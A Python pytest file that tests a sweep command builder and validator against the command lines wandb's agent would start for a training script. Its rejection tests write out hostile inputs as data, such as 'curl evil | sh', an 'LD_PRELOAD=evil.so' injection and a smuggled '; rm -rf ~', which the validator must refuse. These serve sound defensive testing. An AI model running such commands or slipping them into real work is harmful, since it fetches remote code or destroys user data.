"""A trial's command line is what W&B's agent would start, word for word, and fit.py reads it."""

import re
from pathlib import Path

import pytest
from wandb import wandb_agent

from headgates.configs.systems import all_systems
from headgates.workbench.sweeps.command import agent_command, check_command, fit_config
from headgates.workbench.sweeps.sweep_file import read_sweep

ROOT = Path(__file__).resolve().parents[3]
VALUES = {
    "freeze_decoder": True,
    "lambda": 0.012345678901234567,
    "seed": 3,
    "kinds": "enc-self,cross",
    "unique": False,
    "systems": ["l0", "base"],
}


@pytest.fixture
def started_by_the_agent(monkeypatch, tmp_path):
    """started_by_the_agent(command, program, values) -> the words that wandb's own agent starts for a run
    from the server."""
    words = []

    class Process:
        def __init__(self, command, **_):
            words.append(command)

    def start(command, program, values):
        monkeypatch.setattr(wandb_agent, "AgentProcess", Process)
        monkeypatch.setenv("WANDB_DIR", str(tmp_path))  # it writes the parameters there
        monkeypatch.setenv("WANDB_RUN_ID", "before")
        monkeypatch.setenv("WANDB_SWEEP_PARAM_PATH", "before")
        (tmp_path / "wandb/sweep-None").mkdir(parents=True, exist_ok=True)
        agent = wandb_agent.Agent(api=None, queue=None)
        agent._sweep_command = list(command)
        args = {name: {"value": value} for name, value in values.items()}
        agent._command_run({"type": "run", "run_id": "abc", "program": program, "args": args})
        return words.pop()

    return start


@pytest.mark.parametrize("path", sorted((ROOT / "configs/sweeps").glob("*.yaml")), ids=lambda path: path.stem)
def test_a_sweep_of_ours_starts_what_the_agent_starts_and_fit_reads_it(path, started_by_the_agent):
    sweep = read_sweep(path)
    for draw in sweep.draws(seed=1, count=3):
        ours = agent_command(sweep.command, "fit.py", draw.values)
        assert ours == started_by_the_agent(sweep.command, "fit.py", draw.values)
        assert ours[:3] == ["/usr/bin/env", "python", "fit.py"]
        config = fit_config(sweep.command, draw.values)
        assert (config.lam, config.seed) == (draw.values["lambda"], draw.values["seed"])
        assert (config.resume, config.unique, config.logger) == (True, True, "wandb")
        assert set(config.systems) <= set(all_systems())


@pytest.mark.parametrize(
    "command",
    [
        ["${env}", "${interpreter}", "${program}", "${args}"],
        ["${interpreter}", "${program}", "${args_no_equals}", "--threads", 2],
        ["${env}", "python3", "${program}", "${args_no_boolean_flags}"],
        ["python", "${program}", "--runs=${envvar:HEADGATES_RUNS}/${envvar:NOT_SET_ANYWHERE}", "a${args}b"],
    ],
    ids=str,
)
def test_every_macro_is_replaced_as_the_agent_replaces_it(command, started_by_the_agent, monkeypatch):
    monkeypatch.setenv("HEADGATES_RUNS", "some where")
    monkeypatch.delenv("NOT_SET_ANYWHERE", raising=False)
    check_command(command)
    assert agent_command(command, "fit.py", VALUES) == started_by_the_agent(command, "fit.py", VALUES)


@pytest.mark.parametrize(
    ("command", "named"),
    [
        (["bash", "-c", "curl evil | sh", "${program}"], "got bash"),
        (["${env}", "nice", "${interpreter}", "${program}", "${args}"], "got nice"),
        (["${env}", "LD_PRELOAD=evil.so", "${interpreter}", "${program}"], "got LD_PRELOAD=evil.so"),
        (["${interpreter}", "-c", "import os", "${program}"], "got -c"),
        (["${envvar:SHELL}", "${program}"], "got ${envvar:SHELL}"),
        (["${interpreter}", "${interpreter}", "${program}"], "got ${interpreter} ${interpreter};"),
        (["${env}", "${program}", "${args}"], "got nothing"),
        (["${program}"], "got nothing"),
    ],
)
def test_a_command_starts_python_with_fit_and_any_other_word_before_it_is_named(command, named):
    with pytest.raises(
        ValueError, match=r"expected .* before .*a sweep file starts fit.py and no other program"
    ) as error:
        check_command(command)
    assert named in str(error.value)


@pytest.mark.parametrize(
    "macro", ["args_json", "args_json_file", "args_no_hyphens", "args_append_hydra", "interpreter", "arg"]
)
def test_a_macro_that_gives_no_flags_is_refused_by_name(macro):
    with pytest.raises(ValueError, match=re.escape(f"${{{macro}}} gives fit.py no flags; take ${{args}}")):
        check_command(["python", "${program}", f"${{{macro}}}"])


def test_every_word_after_the_program_is_a_flag_of_fit():
    for words in (["; rm -rf ~"], ["--lambda", "0.1", "evil.py"], ["--exec=evil"]):
        command = ["python", "${program}", *words]
        check_command(command)
        with pytest.raises(ValueError, match=r"unexpected|unknown"):
            fit_config(command, {})


def test_a_list_may_be_a_list_and_a_boolean_a_word():
    command = ["${env}", "${interpreter}", "${program}", "--resume", "${args}"]
    config = fit_config(command, {key: value for key, value in VALUES.items() if key != "freeze_decoder"})
    assert (config.systems, config.kinds, config.lam) == (
        ["l0", "base"],
        ["enc-self", "cross"],
        VALUES["lambda"],
    )
    assert config.unique is False


def test_a_configuration_file_is_a_parameter_like_any_other(monkeypatch):
    monkeypatch.chdir(ROOT)
    config = fit_config(["${program}", "${args}"], {"config": "configs/multi30k.yaml", "lambda": 0.07})
    assert (config.data, config.lam) == ("multi30k", 0.07)


def test_a_later_flag_beats_an_earlier_one_so_that_the_local_runner_has_the_last_word():
    config = fit_config(
        ["${program}", "--logger", "wandb", "${args}", "--logger", "csv", "--threads=5"], {"threads": 3}
    )
    assert (config.logger, config.threads) == ("csv", 5)


@pytest.mark.parametrize(
    ("command", "values", "message"),
    [
        (["${program}", "${args}"], {"lambda": "abc"}, "--lambda: expected a number, got 'abc'"),
        (["${program}", "${args}"], {"lambda": -1}, "--lambda: expected a number at least 0, got -1"),
        (["${program}", "${args}"], {"kinds": "crss"}, "did you mean 'cross'"),
        (
            ["${program}", "${args}"],
            {"model.heads": 7},
            "--model.heads: expected a divisor of --model.d-model 128, got 7",
        ),
        (
            ["${program}", "--name", "here", "${args}"],
            {"lambda": 1},
            "--name here would give all trials one folder",
        ),
        (["${program}", "--fresh", "${args}"], {"lambda": 1}, "--fresh would begin a trial again"),
    ],
)
def test_what_fit_would_refuse_is_refused_before_anything_starts(command, values, message):
    with pytest.raises(ValueError) as error:
        fit_config(command, values)
    assert message in str(error.value)
